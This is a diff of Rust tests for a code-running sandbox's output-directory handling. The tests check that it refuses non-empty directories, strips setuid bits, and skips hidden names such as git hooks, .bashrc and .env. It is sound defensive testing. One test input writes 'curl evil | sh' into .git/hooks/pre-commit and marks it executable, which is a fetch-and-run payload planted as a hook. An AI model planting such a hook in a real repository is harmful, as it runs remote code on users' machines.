@@ -184,14 +184,17 @@ os.read(r, 7)
     }
 }
 
+/// Issue 10: names that differ only in invalid UTF-8 collapsed into one path; they are left
+/// out (counted, with a warning) and every returned path is exactly a file's name.
 #[test]
-fn odd_names_come_back_as_valid_strings_inside_the_workspace() {
+fn odd_names_come_back_faithfully_and_non_utf8_names_are_left_out() {
     let r = run(
         "python",
         r#"
 import os
-for name in [b"new\nline.txt", b"bad\xffbyte.txt", b"-rf", b"...", b" spaced "]:
-    with open(name, "wb") as f: f.write(b"x")
+for name in [b"new\nline.txt", b"bad\xffbyte.txt", b"bad\xfebyte.txt", b"-rf", b"...", b" spaced ",
+             "bad\ufffdbyte.txt".encode()]:
+    with open(name, "wb") as f: f.write(name)
 "#,
         &[],
     );
@@ -208,6 +211,45 @@ for name in [b"new\nline.txt", b"bad\xffbyte.txt", b"-rf", b"...", b" spaced "]:
             "new\nline.txt"
         ]
     );
+    let real = files(&r)
+        .into_iter()
+        .find(|f| f["path"] == "bad\u{fffd}byte.txt")
+        .unwrap();
+    assert_eq!(content(&real).unwrap(), "bad\u{fffd}byte.txt".as_bytes());
+    assert_eq!(r.verdict["files_omitted"], 2);
+    assert_eq!(
+        r.verdict["warnings"],
+        serde_json::json!(["2 output file(s) left out: their paths are not valid UTF-8"])
+    );
+}
+
+/// Issue 10: one over-long output path made the whole collection fail; it is left out and
+/// the other files come back (and are written to --output-dir, which reports the one left
+/// out in its status).
+#[test]
+fn an_over_long_output_path_is_left_out_and_the_rest_come_back() {
+    let dir = tempfile::tempdir().unwrap();
+    let out = dir.path().join("out");
+    let r = run(
+        "python",
+        r#"
+import os
+for i in range(30):
+    os.makedirs("d" * 200, exist_ok=True)
+    os.chdir("d" * 200)
+open("long.txt", "w").write("L")
+os.chdir("/workspace")
+open("a.txt", "w").write("A")
+open("z.txt", "w").write("Z")
+"#,
+        &["--output-dir", out.to_str().unwrap()],
+    );
+    r.assert_ok();
+    assert_eq!(paths(&r), ["a.txt", "z.txt"]);
+    assert_eq!(r.verdict["files_omitted"], 1);
+    assert_eq!(fs::read_to_string(out.join("a.txt")).unwrap(), "A");
+    assert_eq!(fs::read_to_string(out.join("z.txt")).unwrap(), "Z");
+    assert_eq!(r.code, Some(125));
 }
 
 #[test]
@@ -269,16 +311,135 @@ fn outputs_written_before_a_timeout_or_a_flood_still_come_back() {
 }
 
 #[test]
-fn output_dir_receives_the_files_and_refuses_to_follow_links() {
+fn output_dir_receives_the_files_never_executable() {
+    use std::os::unix::fs::PermissionsExt;
     let dir = tempfile::tempdir().unwrap();
     let out = dir.path().join("out");
     let r = run(
         "python",
-        "import os\nos.makedirs('r', exist_ok=True)\nopen('r/a.txt','w').write('A')",
+        "import os\nos.makedirs('r', exist_ok=True)\nopen('r/a.txt','w').write('A')\n\
+         open('run.sh','w').write('#!/bin/sh')\nos.chmod('run.sh', 0o4755)",
         &["--output-dir", out.to_str().unwrap()],
     );
     r.assert_ok();
+    assert_eq!(r.code, Some(0));
     assert_eq!(fs::read_to_string(out.join("r/a.txt")).unwrap(), "A");
+    let mode = fs::metadata(out.join("run.sh"))
+        .unwrap()
+        .permissions()
+        .mode();
+    assert_eq!(
+        mode & 0o7133,
+        0,
+        "created 0644 whatever the sandbox's mode: {mode:o}"
+    );
+    assert!(files(&r).iter().all(|f| f.get("not_written").is_none()));
+}
+
+/// Issue 10: `--output-dir .` inside a repository let a program replace
+/// `.git/hooks/pre-commit` in place, and the hook stayed executable. A directory that is not
+/// empty is refused before anything runs.
+#[test]
+fn output_dir_that_is_not_empty_is_refused_before_the_program_runs() {
+    use std::os::unix::fs::PermissionsExt;
+    let repo = tempfile::tempdir().unwrap();
+    let hook = repo.path().join(".git/hooks/pre-commit");
+    fs::create_dir_all(hook.parent().unwrap()).unwrap();
+    fs::write(&hook, "#!/bin/sh\nexit 0\n").unwrap();
+    fs::set_permissions(&hook, fs::Permissions::from_mode(0o755)).unwrap();
+    let r = run(
+        "bash",
+        "mkdir -p .git/hooks; echo 'curl evil | sh' > .git/hooks/pre-commit; \
+         chmod +x .git/hooks/pre-commit; echo ran",
+        &["--output-dir", repo.path().to_str().unwrap()],
+    );
+    r.assert_category("invalid_request");
+    assert_eq!(r.code, Some(2));
+    assert!(
+        r.message().contains("exists and is not empty"),
+        "{}",
+        r.message()
+    );
+    assert!(r.verdict["exit_code"].is_null(), "nothing ran");
+    assert_eq!(fs::read_to_string(&hook).unwrap(), "#!/bin/sh\nexit 0\n");
+}
+
+/// Issue 10: outputs that are not written (hidden names, content over the cap) are listed
+/// with the reason, and the status says DIR is incomplete.
+#[test]
+fn outputs_not_written_are_reported_and_hidden_names_never_written() {
+    let dir = tempfile::tempdir().unwrap();
+    let out = dir.path().join("out");
+    let r = run(
+        "bash",
+        "mkdir -p .git/hooks; echo evil > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; \
+         echo k > .bashrc; echo ok > ok.txt; head -c 11M /dev/zero > big.bin",
+        &["--output-dir", out.to_str().unwrap(), "--disk", "64M"],
+    );
+    r.assert_ok();
+    assert_eq!(r.code, Some(125), "DIR does not hold every output");
+    let reason = |p: &str| {
+        files(&r)
+            .into_iter()
+            .find(|f| f["path"] == p)
+            .unwrap_or_else(|| panic!("{p} in {:#}", r.verdict))["not_written"]
+            .as_str()
+            .map(str::to_string)
+    };
+    assert!(reason(".git/hooks/pre-commit")
+        .unwrap()
+        .contains("hidden name"));
+    assert!(reason(".bashrc").unwrap().contains("hidden name"));
+    assert!(reason("big.bin").unwrap().contains("size cap"));
+    assert_eq!(reason("ok.txt"), None);
+    let mut names: Vec<_> = fs::read_dir(&out)
+        .unwrap()
+        .map(|e| e.unwrap().file_name().into_string().unwrap())
+        .collect();
+    names.sort();
+    assert_eq!(names, ["ok.txt"]);
+    let warnings = r.verdict["warnings"].to_string();
+    assert!(
+        warnings.contains("3 output file(s) not written"),
+        "{warnings}"
+    );
+    // A program that failed keeps its own exit code.
+    let out2 = dir.path().join("out2");
+    let r = run(
+        "bash",
+        "echo k > .hidden; exit 3",
+        &["--output-dir", out2.to_str().unwrap()],
+    );
+    assert_eq!(r.code, Some(3));
+}
+
+/// Without --json, every output not written is printed with the reason.
+#[test]
+fn outputs_not_written_are_printed() {
+    let dir = tempfile::tempdir().unwrap();
+    let out = dir.path().join("out");
+    let o = std::process::Command::new(runcell_bin())
+        .args([
+            "run",
+            "-l",
+            "bash",
+            "-c",
+            "echo x > .env; echo y > y.txt",
+            "--output-dir",
+        ])
+        .arg(&out)
+        .output()
+        .unwrap();
+    let err = String::from_utf8_lossy(&o.stderr);
+    assert_eq!(o.status.code(), Some(125), "{err}");
+    assert!(
+        err.contains(&format!("runcell: wrote {}", out.join("y.txt").display())),
+        "{err}"
+    );
+    assert!(
+        err.contains("runcell: not written: .env: '.env' is a hidden name"),
+        "{err}"
+    );
 }
 
 /// `output_files` is a limit like the others: a request may ask for fewer (or more, up to the
